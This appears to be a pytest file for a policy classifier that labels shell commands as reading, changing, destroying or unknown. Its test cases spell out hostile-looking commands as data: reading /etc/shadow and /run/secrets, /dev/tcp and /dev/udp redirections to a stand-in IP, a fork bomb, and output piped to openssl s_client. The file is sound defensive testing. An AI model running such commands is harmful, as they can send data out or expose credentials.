import pytest

from itops.domain.effect import Effect
from itops.domain.script import Command, Facts
from itops.policy.effects import classify
from itops.policy.example import command_of
from itops.policy.policy_file import load_policy

TABLE = load_policy().table


def classified(*commands):
    return classify(Facts(commands=commands), TABLE).commands


@pytest.mark.parametrize(
    ("text", "effect", "why"),
    [
        ("ls", Effect.READ, "lists files"),
        ("rm x", Effect.DESTROY, "deletes"),
        ("ls > out", Effect.CHANGE, "it writes out"),
        ("rm x > out", Effect.DESTROY, "deletes"),
        ("frobnicate > out", Effect.UNKNOWN, "does not know"),
        ("ls < /etc/shadow", Effect.UNKNOWN, "reads a secret"),
        ("cat < /dev/tcp/192.0.2.1/80", Effect.UNKNOWN, "connection"),
        ("< /dev/tcp/192.0.2.1/80", Effect.READ, "port"),
        ("< /dev/udp/192.0.2.1/80", Effect.UNKNOWN, "connection"),
        ("> /dev/tcp/192.0.2.1/80", Effect.UNKNOWN, "connection"),
        ("< /dev/tcp/192.0.2.1/80 > x", Effect.UNKNOWN, "connection"),
        ("< /dev/tcp/$HOST/80", Effect.UNKNOWN, "connection"),
        ("ls > /dev/udp/192.0.2.1/53", Effect.UNKNOWN, "connection"),
    ],
)
def test_a_command_gets_the_heaviest_effect_and_where_it_comes_from(text, effect, why):
    (command,) = classified(command_of(text))
    assert command.effect is effect
    assert why in command.why


@pytest.mark.parametrize(("files", "effect"), [({"writes": ("o",)}, Effect.CHANGE), ({"reads": ("i",)}, Effect.READ)])
def test_a_redirection_without_a_program(files, effect):
    assert classified(Command(program="", argv=(), effect=Effect.UNKNOWN, **files))[0].effect is effect


def test_what_destroys_by_its_structure_stays_so():
    bomb = Command(program="fork-bomb", argv=("f",), effect=Effect.DESTROY, why="endless")
    assert (classified(bomb)[0].effect, classified(bomb)[0].why) == (Effect.DESTROY, "endless")


def test_where_a_script_goes_decides_what_it_reads():
    assert classified(command_of("cat db"))[0].effect is Effect.READ
    assert classified(command_of("cd /run/secrets"), command_of("cat db"))[1].effect is Effect.UNKNOWN
    assert classified(command_of("cd /var/log"), command_of("cat syslog"))[1].effect is Effect.READ


@pytest.mark.parametrize(("dynamic", "effect"), [(False, Effect.READ), (True, Effect.UNKNOWN)])
def test_what_is_sent_to_another_host_must_be_literal_wherever_it_was_printed(dynamic, effect):
    printed = command_of("echo $x").model_copy(update={"dynamic": dynamic})
    assert classified(printed, command_of("echo | openssl s_client -connect example.com:443"))[1].effect is effect


def test_problems_and_order_stay():
    facts = classify(Facts(commands=(command_of("ls"), command_of("rm x")), problems=("p",)), TABLE)
    assert [command.program for command in facts.commands] == ["ls", "rm"]
    assert facts.problems == ("p",)
